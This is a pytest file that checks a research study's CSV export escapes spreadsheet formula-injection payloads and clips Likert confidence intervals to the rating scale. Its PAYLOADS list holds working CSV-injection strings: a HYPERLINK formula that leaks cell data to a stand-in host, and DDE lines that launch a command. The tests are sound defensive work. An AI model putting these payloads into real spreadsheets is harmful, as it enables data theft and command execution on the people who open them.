"""Exports a spreadsheet opens safely (OWASP's CSV injection rule) and statistics that stay on their scale."""

from __future__ import annotations

import csv
import dataclasses
import io
import math

import pytest

from xai_core.study import ResponseRecord, responses_from_csv, responses_to_csv, summarize, summary_to_csv
from xai_core.study.export import FORMULA_PREFIXES, neutralise, unneutralise

# The reported payloads (5 of 5 went through into the downloaded CSV) and the other prefixes OWASP names.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",  # an apostrophe already there: one more is added, and one is taken away on reading
    "''@x",
]


def record(**fields: object) -> ResponseRecord:
    base = {
        "study": "S",
        "participant": "p1",
        "session_id": 1,
        "session_total": 2,
        "trial_id": 1,
        "position": 1,
        "task": "forward_simulation",
        "attention": False,
        "item_id": 1,
        "image_hash": "ab",
        "target_label": "cat",
        "method_left": "saliency",
        "method_right": None,
        "choice": None,
        "chosen_method": None,
        "rating": None,
        "option": 0,
        "option_label": "cat",
        "correct": True,
        "client_ms": None,
        "server_ms": -5,
        "shown_at": None,
        "answered_at": "2026-12-01T00:00:00+00:00",
    }
    return ResponseRecord(**{**base, **fields})  # type: ignore[arg-type]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_neutralised_and_read_back(payload: str) -> None:
    records = [record(participant=payload, option_label=payload, target_label=payload, method_left=payload)]
    text = responses_to_csv(records)
    rows = list(csv.DictReader(io.StringIO(text)))
    for column in ("participant", "option_label", "target_label", "method_left"):
        cell = rows[0][column]
        assert cell.startswith("'") and cell[1:] == payload  # a spreadsheet shows it as text
    assert rows[0]["server_ms"] == "-5"  # numbers are not text cells: a negative number stays a number
    assert responses_from_csv(text) == records


def test_every_text_cell_of_the_responses_csv_is_safe() -> None:
    records = [record(participant=p, option_label=p, trial_id=k) for k, p in enumerate(PAYLOADS)]
    text_columns = {f.name for f in dataclasses.fields(ResponseRecord) if "str" in str(f.type)}
    for row in csv.DictReader(io.StringIO(responses_to_csv(records))):
        for column in text_columns:
            assert row[column][:1] not in FORMULA_PREFIXES, (column, row[column])


@pytest.mark.parametrize("text", ["", "cat", "'cat", "'", "''", "a=b", "-", "'-", "=", "1-2"])
def test_neutralise_round_trips(text: str) -> None:
    assert unneutralise(neutralise(text)) == text
    assert neutralise(text)[:1] not in FORMULA_PREFIXES


def test_summary_csv_neutralises_method_names_and_drops_the_empty_client_time() -> None:
    records = [record(task="likert", rating=r, option=None, method_left="=evil()", trial_id=r) for r in (1, 2)]
    rows = list(csv.reader(io.StringIO(summary_to_csv(summarize(records)))))
    assert rows[[r[0] for r in rows].index("likert")][:3] == ["likert", "'=evil()", "mean"]
    assert not [r for r in rows if r[2] == "client_median"]  # no client times were measured


def test_likert_interval_is_clipped_to_the_scale() -> None:
    ratings = [5, 5, 5, 4]  # mean 4.75; the t interval's upper end lies above 5
    records = [
        record(task="likert", rating=r, option=None, trial_id=k, participant=f"p{k}") for k, r in enumerate(ratings)
    ]
    (mean,) = summarize(records).likert
    assert mean.mean == 4.75 and mean.high == 5.0 and 1.0 <= mean.low < 4.75
    (single,) = summarize(records[:1]).likert
    assert math.isnan(single.low) and math.isnan(single.high)  # one rating: no interval, not a clipped one
